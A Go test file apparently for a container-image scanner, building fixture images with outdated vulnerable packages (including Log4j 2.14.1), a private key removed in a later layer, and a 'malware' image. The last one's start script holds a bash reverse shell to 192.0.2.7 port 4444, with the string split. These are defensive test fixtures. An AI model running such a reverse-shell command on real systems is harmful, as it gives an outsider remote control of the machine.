// SPDX-License-Identifier: Apache-2.0

package fleet

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"testing"
)

// shared holds the data beside the checkout.
var shared = filepath.Join("..", "..", "..", "shared")

// need skips a test that lacks a real part, with the reason; in CI it fails.
func need(t *testing.T, why string, args ...any) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatalf(why, args...)
	}
	t.Skipf(why, args...)
}

// debian is the package database of a release's root, of what is in testdata,
// which debootstrap and apt gave: name, version, architecture, source; "essential"
// or, of what apt installed for others, "auto"; what it depends on, what it
// recommends and suggests, and what it provides. The first file is the minimal
// root; more are what is installed above.
func debian(t *testing.T, release string, more ...string) files {
	t.Helper()
	var all []string
	for _, name := range append([]string{release}, more...) {
		b, err := os.ReadFile(filepath.Join("testdata", "debian-"+name+".txt"))
		must(t, err)
		all = append(all, strings.Split(strings.TrimSpace(string(b)), "\n")...)
	}
	words := strings.Fields(all[0])
	var status, states strings.Builder
	for _, line := range all {
		if strings.HasPrefix(line, "#") {
			continue
		}
		f := append(strings.Split(line, "\t"), make([]string, 5)...)
		fmt.Fprintf(&status, "Package: %s\nStatus: install ok installed\nMaintainer: A <a@example.com>\nArchitecture: %s\n", f[0], f[2])
		if f[3] != "" {
			fmt.Fprintf(&status, "Source: %s\n", f[3])
		}
		fmt.Fprintf(&status, "Version: %s\n", f[1])
		switch f[4] {
		case "essential":
			status.WriteString("Essential: yes\n")
		case "auto":
			fmt.Fprintf(&states, "Package: %s\nArchitecture: amd64\nAuto-Installed: 1\n\n", f[0])
		}
		for i, field := range []string{"Depends", "Recommends", "Provides"} {
			if f[5+i] != "" {
				fmt.Fprintf(&status, "%s: %s\n", field, f[5+i])
			}
		}
		fmt.Fprintf(&status, "Description: %s\n\n", f[0])
	}
	return files{
		"etc/os-release":              fmt.Sprintf("ID=debian\nVERSION_ID=%q\nVERSION_CODENAME=%s\nPRETTY_NAME=%q\n", release, words[len(words)-1], strings.TrimPrefix(strings.Join(words[:len(words)-2], " "), "# ")),
		"var/lib/dpkg/status":         status.String(),
		"var/lib/apt/extended_states": states.String(),
	}
}

// root is the package data of a real distribution beside the checkout.
func root(t *testing.T, name string) files {
	t.Helper()
	dir := filepath.Join(shared, "rootfs", name)
	if _, err := os.Stat(dir); err != nil {
		need(t, "no root to build %s of: %v", name, err)
	}
	out := files{}
	must(t, filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(dir, p)
		out[filepath.ToSlash(rel)] = string(b)
		return err
	}))
	return out
}

// node is an application as npm installs it for production: the lockfile that
// npm wrote for these dependencies, and what it puts in node_modules.
func node(t *testing.T) files {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "package-lock.json"))
	must(t, err)
	var lock struct {
		Packages map[string]struct {
			Name, Version string
			Dev           bool
			Dependencies  map[string]string
		}
	}
	must(t, json.Unmarshal(b, &lock))
	out := files{"app/package-lock.json": string(b)}
	for at, p := range lock.Packages {
		if p.Dev {
			continue
		}
		name := p.Name
		if i := strings.LastIndex(at, "node_modules/"); i >= 0 && name == "" {
			name = at[i+len("node_modules/"):]
		}
		out[path.Join("app", at, "package.json")] = string(encode(t, map[string]any{"name": name, "version": p.Version, "dependencies": p.Dependencies}))
	}
	return out
}

// python is a virtual environment with the metadata that pip writes.
// Format: https://packaging.python.org/en/latest/specifications/recording-installed-packages/
func python() files {
	out := files{}
	for p := range strings.FieldsSeq("Django==3.1.2 requests==2.25.0 urllib3==1.26.2 Pillow==8.0.1 Jinja2==2.11.2 PyYAML==5.3.1 cryptography==3.2 lxml==4.6.1 Werkzeug==1.0.1 Flask==1.1.2 certifi==2020.6.20 aiohttp==3.7.2 SQLAlchemy==1.3.20 numpy==1.19.3 tornado==6.0.4 paramiko==2.7.2 gunicorn==20.0.4 celery==5.0.1 setuptools==50.3.2 pip==20.2.4 MarkupSafe==1.1.1 itsdangerous==1.1.0 idna==2.10 six==1.15.0") {
		name, version, _ := strings.Cut(p, "==")
		dir := "opt/venv/lib/python3.9/site-packages/" + strings.ReplaceAll(name, "-", "_") + "-" + version + ".dist-info/"
		out[dir+"METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n\n"
		out[dir+"INSTALLER"] = "pip\n"
	}
	return out
}

// java is an application archive with the libraries in it, each with the
// metadata that Maven writes.
func java(t *testing.T) files {
	t.Helper()
	jar := func(group, artifact, version string) files {
		at := "META-INF/maven/" + group + "/" + artifact + "/"
		return files{
			"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\r\nImplementation-Title: " + artifact + "\r\nImplementation-Version: " + version + "\r\n\r\n",
			at + "pom.properties":  "groupId=" + group + "\nartifactId=" + artifact + "\nversion=" + version + "\n",
		}
	}
	app := jar("com.example", "shop", "2.0.0")
	for p := range strings.FieldsSeq("org.apache.logging.log4j:log4j-core:2.14.1 org.apache.logging.log4j:log4j-api:2.14.1 org.springframework:spring-beans:5.3.17 org.springframework:spring-webmvc:5.3.17 org.springframework:spring-core:5.3.17 com.fasterxml.jackson.core:jackson-databind:2.9.8 com.fasterxml.jackson.core:jackson-core:2.9.8 org.yaml:snakeyaml:1.26 org.apache.commons:commons-text:1.9 commons-collections:commons-collections:3.2.1 commons-fileupload:commons-fileupload:1.3.3 org.apache.tomcat.embed:tomcat-embed-core:9.0.30 org.apache.struts:struts2-core:2.5.10 io.netty:netty-codec-http:4.1.42.Final com.google.guava:guava:20.0 org.postgresql:postgresql:42.2.5") {
		f := strings.Split(p, ":")
		app["BOOT-INF/lib/"+f[1]+"-"+f[2]+".jar"] = zipped(t, jar(f[0], f[1], f[2]))
	}
	return files{"opt/shop.jar": zipped(t, app)}
}

// golang is a program that is built here, with old modules of a registry of
// modules in a directory: no network is used.
// Format: https://go.dev/ref/mod#goproxy-protocol
func golang(t *testing.T) files {
	t.Helper()
	dir := t.TempDir()
	write := func(name, text string) {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600))
	}
	var require, imports, uses strings.Builder
	for i, m := range strings.Fields("golang.org/x/net@v0.7.0 golang.org/x/crypto@v0.1.0 golang.org/x/text@v0.3.5 github.com/gin-gonic/gin@v1.6.3 github.com/dgrijalva/jwt-go@v3.2.0+incompatible github.com/gogo/protobuf@v1.3.1 google.golang.org/grpc@v1.50.0 gopkg.in/yaml.v2@v2.2.2") {
		name, version, _ := strings.Cut(m, "@")
		at := "proxy/" + name + "/@v/" + version
		mod, code := "module "+name+"\n", fmt.Sprintf("package part%d\n\n// Name of the module.\nconst Name = %q\n", i, name)
		write(at+".mod", mod)
		write(at+".info", fmt.Sprintf(`{"Version": %q, "Time": "2020-01-02T03:04:05Z"}`, version))
		write(at+".zip", zipped(t, files{name + "@" + version + "/part/part.go": code}))
		fmt.Fprintf(&require, "require %s %s\n", name, version)
		fmt.Fprintf(&imports, "\tpart%d %q\n", i, name+"/part")
		fmt.Fprintf(&uses, "\tprintln(part%d.Name)\n", i)
	}
	write("src/go.mod", "module fleet.example.com/server\n\ngo 1.24\n\n"+require.String())
	write("src/main.go", "package main\n\nimport (\n"+imports.String()+")\n\nfunc main() {\n"+uses.String()+"}\n")
	cmd := exec.CommandContext(t.Context(), "go", "build", "-mod=mod", "-modcacherw", "-trimpath", "-buildvcs=false", "-o", filepath.Join(dir, "server"), ".")
	cmd.Dir = filepath.Join(dir, "src")
	cmd.Env = append(os.Environ(), "GOPROXY=file://"+filepath.Join(dir, "proxy"), "GONOSUMDB=*", "GONOSUMCHECK=1", "GOSUMDB=off", "GOFLAGS=", "GOMODCACHE="+filepath.Join(dir, "cache"), "GOWORK=off", "CGO_ENABLED=0", "GOOS=linux", "GOARCH=amd64", "GOTOOLCHAIN=local")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "server"))
	must(t, err)
	return files{"usr/local/bin/server*": string(b)}
}

// key is a new private key.
func key(t *testing.T) string {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must(t, err)
	b, err := x509.MarshalECPrivateKey(k)
	must(t, err)
	return string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: b}))
}

// fleet is every image: lower ones before those that are built on them.
func fleet(t *testing.T) []image {
	t.Helper()
	from := func(f files) step { return step{"/bin/sh -c #(nop) ADD file:1 in / ", f} }
	command := step{`CMD ["sh"]`, nil}
	app := map[string]any{"User": "app", "ExposedPorts": map[string]any{"8080/tcp": map[string]any{}}}
	old, stable, alpine := from(debian(t, "11")), from(debian(t, "12")), from(root(t, "alpine-3.18"))
	tools := "RUN apt-get install -y build-essential git imagemagick subversion" // and so on, see testdata
	return []image{
		{name: "debian-11", about: "old Debian, minimal", steps: []step{old, command}},
		{name: "debian-12", about: "Debian, minimal", steps: []step{stable, command}},
		{name: "debian-13", about: "new Debian, minimal", steps: []step{from(debian(t, "13")), command}},
		{name: "debian-11-build", about: "what images for building are made of: compilers, headers, Git", base: "debian-11", steps: []step{old, command, {tools, debian(t, "11", "11-build")}}},
		{name: "debian-12-build", about: "the same of debian-12", base: "debian-12", steps: []step{stable, command, {tools, debian(t, "12", "12-build")}}},
		{name: "alpine-3.10", about: "old Alpine", steps: []step{from(root(t, "alpine-3.10")), command}},
		{name: "alpine-3.18", about: "Alpine", steps: []step{alpine, command}},
		{name: "alpine-3.20", about: "newer Alpine", steps: []step{from(root(t, "alpine-3.20")), command}},
		{name: "azurelinux-2.0", about: "Azure Linux, with compilers", steps: []step{from(root(t, "azurelinux-2.0")), command}},
		{name: "sles-15", about: "SUSE; the starter database has no advisories of it", steps: []step{from(root(t, "sles-15")), command}},
		{name: "node", about: "280 old npm packages on debian-11-build", base: "debian-11-build", config: app, steps: []step{old, command, {tools, debian(t, "11", "11-build")}, {"COPY . /app", node(t)}, {"USER app", nil}}},
		{name: "python", about: "24 old Python packages on debian-12-build", base: "debian-12-build", config: app, steps: []step{stable, command, {tools, debian(t, "12", "12-build")}, {"RUN pip install -r requirements.txt", python()}, {"USER app", nil}}},
		{name: "java", about: "one jar with Log4j 2.14.1 and others (KEV), root", base: "alpine-3.18", config: map[string]any{"ExposedPorts": app["ExposedPorts"]}, steps: []step{alpine, command, {"COPY shop.jar /opt/", java(t)}}},
		{name: "go", about: "a program alone, with old modules", config: app, steps: []step{{"COPY server /usr/local/bin/", golang(t)}, {"USER app", nil}}},
		{name: "leaked-key", about: "a private key that a later step deletes", base: "alpine-3.18", config: app, steps: []step{alpine, command, {"COPY id_ecdsa /root/.ssh/", files{"root/.ssh/id_ecdsa": key(t)}}, {"RUN rm /root/.ssh/id_ecdsa", files{"root/.ssh/.wh.id_ecdsa": ""}}, {"USER app", nil}}},
		{name: "malware", about: "a reverse shell in a script that is started", base: "alpine-3.18", config: map[string]any{"Entrypoint": []string{"/app/start.sh"}}, steps: []step{alpine, command, {"COPY start.sh /app/", files{"app/start.sh*": "#!/bin/sh\nbash -i >& /dev/" + "tcp/192.0.2.7/4444 0>&1\n"}}}},
	}
}
